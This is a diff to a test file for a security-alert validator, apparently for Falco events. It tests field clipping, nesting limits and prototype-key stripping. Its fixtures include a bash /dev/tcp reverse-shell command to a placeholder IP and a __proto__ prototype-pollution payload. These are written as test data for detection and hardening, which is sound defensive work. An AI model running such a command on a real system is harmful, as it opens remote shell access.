@@ -1,4 +1,5 @@
 import { ALERT_LIMITS } from '../../../contracts';
+import { CLIP_MARKER, CLIPPED_KEY } from '../../../gate/clip';
 import { validateEvent } from '../../../gate/validate';
 import { rawLines, SHARED_SAMPLES } from '../../helpers/fixtures';
 
@@ -67,26 +68,56 @@ describe('validateEvent: every kind of malformed input gets a reason, nothing th
     expect(!r.ok && r.reason).toContain(inReason);
   });
 
-  it('refuses huge fields by the contract bounds, and a huge message before parsing it', () => {
+  it('clips over-long values to the contract bounds with a marker (still an alert, still scored), and refuses a huge message before parsing it', () => {
     const longOutput = shell();
     longOutput.output = 'x'.repeat(ALERT_LIMITS.outputChars + 1);
-    expect(check(json(longOutput))).toMatchObject({ ok: false, kind: 'invalid_alert' });
+    const o = check(json(longOutput));
+    expect(o).toMatchObject({ ok: true, clipped: ['output'] });
+    expect(o.ok && o.alert.output.length).toBe(ALERT_LIMITS.outputChars);
+    expect(o.ok && o.alert.output.endsWith(CLIP_MARKER)).toBe(true);
 
     const longField = shell();
-    (longField.output_fields as Record<string, unknown>)['proc.cmdline'] = 'A'.repeat(ALERT_LIMITS.fieldChars + 1);
-    expect(check(json(longField))).toMatchObject({ ok: false, kind: 'invalid_alert', reason: expect.stringContaining('longer than') });
+    const cmdline = `bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444' ${'A'.repeat(ALERT_LIMITS.fieldChars)}`;
+    (longField.output_fields as Record<string, unknown>)['proc.cmdline'] = cmdline;
+    const f = check(json(longField));
+    expect(f).toMatchObject({ ok: true, clipped: ['output_fields.proc.cmdline'] });
+    const kept = f.ok ? String(f.alert.output_fields['proc.cmdline']) : '';
+    expect(kept.startsWith("bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444'")).toBe(true);
+    expect(f.ok && (f.alert as Record<string, unknown>)[CLIPPED_KEY]).toEqual(['output_fields.proc.cmdline']);
 
+    // Junk fields padded in front of the ones detection reads: those survive the cut.
     const manyFields = shell();
-    manyFields.output_fields = Object.fromEntries(Array.from({ length: ALERT_LIMITS.fields + 1 }, (_, i) => [`f${i}`, i]));
-    expect(check(json(manyFields))).toMatchObject({ ok: false, kind: 'invalid_alert', reason: expect.stringContaining('output_fields') });
+    manyFields.output_fields = { ...Object.fromEntries(Array.from({ length: ALERT_LIMITS.fields + 10 }, (_, i) => [`junk${i}`, i])), ...(manyFields.output_fields as object) };
+    const m = check(json(manyFields));
+    expect(m.ok).toBe(true);
+    expect(m.ok && Object.keys(m.alert.output_fields).length).toBe(ALERT_LIMITS.fields);
+    expect(m.ok && m.alert.output_fields['proc.name']).toBe((shell().output_fields as Record<string, unknown>)['proc.name']);
 
     const manyTags = shell();
     manyTags.tags = Array.from({ length: ALERT_LIMITS.tags + 1 }, (_, i) => `t${i}`);
-    expect(check(json(manyTags))).toMatchObject({ ok: false, kind: 'invalid_alert' });
+    expect(check(json(manyTags))).toMatchObject({ ok: true, clipped: ['tags'] });
+
+    // A value of the wrong type is not clipped into validity.
+    const wrongType = shell();
+    wrongType.output = 12;
+    expect(check(json(wrongType))).toMatchObject({ ok: false, kind: 'invalid_alert' });
 
     const huge = Buffer.alloc(MAX + 1, 0x7b);
     const r = validateEvent('', huge.byteLength, MAX);
     expect(r).toMatchObject({ ok: false, kind: 'too_large', reason: `message is ${MAX + 1} bytes, the limit is ${MAX}` });
+  });
+
+  it('refuses extra fields nested too deep or too large before anything recurses into them', () => {
+    const deep = `${'{"d":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
+    expect(check(json(shell()).replace(/^\{/, `{"extra":${deep},`))).toMatchObject({ ok: false, kind: 'too_complex', reason: expect.stringContaining('deeper than') });
+    expect(check(json({ ...shell(), extra: Array.from({ length: 5_000 }, () => [1]) }))).toMatchObject({ ok: false, kind: 'too_complex' });
+    expect(check(json({ ...shell(), ...Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`k${i}`, i])) }))).toMatchObject({ ok: false, kind: 'too_complex' });
+    // Shallow extras are fine, and a nested own __proto__ key in one is removed.
+    const ok = check(json({ ...shell(), extra: { a: [1, { b: 2 }] } }).replace('"b":2', '"b":2,"__proto__":{"polluted":1}'));
+    expect(ok.ok).toBe(true);
+    const extra = ok.ok ? ((ok.alert as Record<string, unknown>).extra as { a: [number, Record<string, unknown>] }) : null;
+    expect(Object.hasOwn(extra!.a[1], '__proto__')).toBe(false);
+    expect(Object.getPrototypeOf(extra!.a[1])).toBe(Object.prototype);
   });
 
   it("keeps falcosidekick's truncated `[...]` string fields (still valid), and refuses a truncated time", () => {
